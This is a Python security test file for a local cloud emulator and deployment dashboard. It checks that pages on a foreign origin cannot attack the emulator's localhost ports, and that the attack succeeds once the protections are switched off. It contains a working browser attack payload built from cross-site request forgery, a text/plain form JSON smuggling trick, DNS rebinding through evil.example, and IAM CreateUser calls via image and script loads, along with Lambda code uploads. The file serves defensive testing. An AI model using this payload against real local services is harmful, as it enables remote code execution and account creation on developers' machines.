"""Web pages of somebody else against every port that a local system opens: they run no program and change nothing."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urlsplit

import boto3
import pytest
from aiohttp import web
from playwright.sync_api import BrowserContext, Page

from dashboard.server import Dashboard
from deployments import local_system
from local.cloud import emulator
from local.cloud.system import deployed
from local.edge import front
from workbench import ROOT
from workbench.chromium import Start
from workbench.dashboards import dashboard_of, ready
from workbench.ports import listening
from workbench.running import running
from workbench.stage import Stage

PLAIN = ROOT / "tests" / "projects" / "plain"
ROLE = "arn:aws:iam::111122223333:role/any"
# What a browser forbids between origins it forbids here too, but the names that lead to loopback are in one's own hands
NAMES = "--host-resolver-rules=MAP evil.example 127.0.0.1"

# `at` are the addresses that are tried, `calls` [path, body] for each kind of request; what could be read comes back
ATTACK = """async ([at, calls]) => {
  const read = [];
  const later = (ms) => new Promise((done) => setTimeout(done, ms));
  const first = (ms, start) => Promise.race([later(ms), new Promise(start)]);
  const noted = async (kind, url, options) => {
    try {
      const answer = await fetch(url, options);
      if (answer.type !== 'opaque') read.push([kind, url, answer.status]);
    } catch (error) {}
  };
  const form = (url, body) => first(2000, (done) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'f' + Math.random() });
    const form = Object.assign(document.createElement('form'), {
      action: url, method: 'post', enctype: 'text/plain', target: frame.name });
    const input = Object.assign(document.createElement('input'), {  // JSON around the equals sign of the form
      name: body.slice(0, -1) + (body.length > 2 ? ',' : '') + '"Description":"', value: '"}' });
    form.append(input);
    document.body.append(frame, form);
    frame.onload = done;
    form.submit();
  });
  const load = (name, url) => first(2000, (done) => {
    document.body.append(Object.assign(document.createElement(name), { src: url, onload: done, onerror: done }));
  });
  for (const url of at) {
    for (const [path, body] of calls.nocors) {
      await noted('no-cors', url + path, { method: 'POST', mode: 'no-cors', body });
    }
    for (const [path, body] of calls.cors) {
      const headers = { 'Content-Type': 'application/json', 'X-Token': 'guessed' };
      await noted('cors', url + path, { method: 'POST', headers, body });
    }
    for (const [path, body] of calls.form) await form(url + path, body);
    await noted('get', url + '/', {});
    await noted('put', url + '/bucket-of-evil', { method: 'PUT' });
    await load('img', url + '/?Action=CreateUser&Version=2010-05-08&UserName=image');
    await load('script', url + '/?Action=CreateUser&Version=2010-05-08&UserName=script');
    await first(2000, (done) => {
      const socket = new WebSocket(url.replace('http', 'ws') + '/events');
      socket.onopen = () => { read.push(['websocket', url, 101]); done(); };
      socket.onerror = socket.onclose = done;
    });
    await first(2000, (done) => {
      const events = new EventSource(url + '/events');
      events.onmessage = () => { read.push(['events', url, 200]); events.close(); done(); };
      events.onerror = () => { events.close(); done(); };
    });
  }
  return read;
}"""


class Harm(NamedTuple):
    """What an attack has done."""

    ran: set[str]  # programs, by the kind of request that brought them here
    users: set[str]
    buckets: set[str]
    held: str
    read: set[tuple[str, int, int]]  # kind, port, status


def calls(marks: Path, *kinds: str) -> dict[str, list[tuple[str, str]]]:
    """For each kind of request a program that leaves a mark, its call, and a hold of new deployments."""
    found = {}
    for kind in kinds:
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w") as file:
            file.writestr("index.py", f"def handler(*_):\n    open({str(marks / kind)!r}, 'w').close()\n")
        code = {"ZipFile": base64.b64encode(held.getvalue()).decode()}
        made = {"FunctionName": kind, "Runtime": "python3.12", "Role": ROLE, "Handler": "index.handler", "Code": code}
        functions = "/2015-03-31/functions"
        hold = {"site": "local/local", "action": "hold", "reason": kind}
        found[kind] = [
            (functions, json.dumps(made)),
            (f"{functions}/{kind}/invocations", "{}"),
            ("/ask", json.dumps(hold)),
        ]
    return found


@contextlib.contextmanager
def elsewhere() -> Iterator[int]:
    """The port of an attacker's own web server."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<body>a harmless page</body>")

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server.server_port
    server.shutdown()
    thread.join()
    server.server_close()


def attack(context: BrowserContext, marks: Path, ports: set[int]) -> set[tuple[str, int, int]]:
    """Try everything from a page of another origin, and from a page whose own name leads to each port later."""
    marks.mkdir()
    page = context.new_page()
    with elsewhere() as port:
        page.goto(f"http://evil.example:{port}/")
        read = tried(page, [f"http://127.0.0.1:{port}" for port in ports], calls(marks, "nocors", "cors", "form"))
    for port in ports:
        page.goto(f"http://evil.example:{port}/")
        again = calls(marks, "rebound")["rebound"]
        read += tried(page, [f"http://evil.example:{port}"], {"nocors": [], "cors": again, "form": []})
    return {(kind, urlsplit(url).port or 0, status) for kind, url, status in read}


def tried(page: Page, at: list[str], calls: dict[str, list[tuple[str, str]]]) -> list[tuple[str, str, int]]:
    """What the page that is open could read."""
    found: list[tuple[str, str, int]] = page.evaluate(ATTACK, [at, calls])
    return found


def harm(client: Any, marks: Path, hold: dict[str, str], read: set[tuple[str, int, int]]) -> Harm:
    """What there is afterwards that was not there before."""
    users = {user["UserName"] for user in client("iam").list_users()["Users"]}
    buckets = {bucket["Name"] for bucket in client("s3").list_buckets()["Buckets"] if "evil" in bucket["Name"]}
    return Harm({path.name for path in marks.iterdir()}, users, buckets, hold.get("reason", ""), read)


def test_a_page_runs_nothing_reads_nothing_and_changes_nothing_at_any_port(
    start: Start, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "its own"))
    with running(tmp_path / "its own", str(PLAIN), "--port", "0", "--dashboard", "0") as local:
        site, dashboard = local.until("site:"), local.until("dashboard:")
        local.until("live:")
        found = local_system.running()
        assert found
        opened = {urlsplit(url).port: url for url in (site, dashboard, found.endpoint)}
        ports = listening([local.process.pid, *local.processes()])
        assert opened.keys() == ports  # and no other program of it listens
        context = start(None, NAMES)
        read = attack(context, tmp_path / "marks", ports)
        for name, value in found.environment.items():
            monkeypatch.setenv(name, value)
        client: Any = boto3.session.Session().client  # of its own: the default one may be somebody else's
        outputs = client("cloudformation").describe_stacks(StackName=found.stack)["Stacks"][0]["Outputs"]
        publisher = next(output["OutputValue"] for output in outputs if output["OutputKey"] == "PublisherName")
        answer = client("lambda").invoke(FunctionName=publisher, Payload=b'{"action": "status"}')
        done = harm(
            boto3.session.Session().client, tmp_path / "marks", json.loads(answer["Payload"].read())["hold"], read
        )
        assert {port for _, port, _ in read} == ports
        assert Harm(set(), set(), set(), "", {entry for entry in read if entry[2] in (403, 421)}) == done
        assert all(kind in ("get", "put", "cors") for kind, _, _ in read)
        assert_a_link_leads_to(context, site, dashboard)


def assert_a_link_leads_to(context: BrowserContext, site: str, dashboard: str) -> None:
    """As CloudFront would, the site answers other pages' links and scripts; to the dashboard a link leads, no frame."""
    page = context.new_page()
    with elsewhere() as port:
        page.goto(f"http://evil.example:{port}/")
        script = """(url) => new Promise((done) => {
          const script = document.createElement('script');
          script.onload = () => done(true); script.onerror = () => done(false);
          script.src = url; document.body.append(script); })"""
        assert page.evaluate(script, site + "/site.js")
        for url, title in ((site, "Plain site"), (dashboard, "Deployments")):
            page.goto(f"http://evil.example:{port}/")
            page.evaluate("(url) => { location = url; }", url)
            page.wait_for_url(url + "/")
            assert title in page.title()


def test_without_the_protection_the_same_page_runs_programs_and_changes_what_is_live(
    start: Start, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    @web.middleware
    async def open_door(_: Dashboard, request: web.Request, handler: Any) -> web.StreamResponse:
        response: web.StreamResponse = await handler(request)
        return response

    monkeypatch.setattr(emulator, "_LAUNCHER", ROOT / "workbench" / "unguarded.py")
    monkeypatch.setattr(Dashboard, "_guard", open_door)
    monkeypatch.setattr(front, "is_ours", lambda _: True)
    with deployed() as stack:
        stage = Stage(stack)
        try:
            stage.publish(PLAIN)
            with stage.serving() as served:
                dashboard = dashboard_of(stack, served.url)
                url = stage.run(dashboard.start(0))
                stage.run(ready(dashboard))
                ports = {stack.emulator.port, *(urlsplit(one).port or 0 for one in (url, served.url))}
                read = attack(start(None, NAMES), tmp_path / "marks", ports)
                done = harm(stack.emulator.client, tmp_path / "marks", stack.status()["hold"], read)
                stage.run(dashboard.close())
        finally:
            stage.close()
    assert {"nocors", "cors", "form", "rebound"} == done.ran
    assert {"image", "script"} == done.users
    assert {"bucket-of-evil"} == done.buckets
    assert done.held
    assert {port for _, port, status in done.read if status == 200} == ports
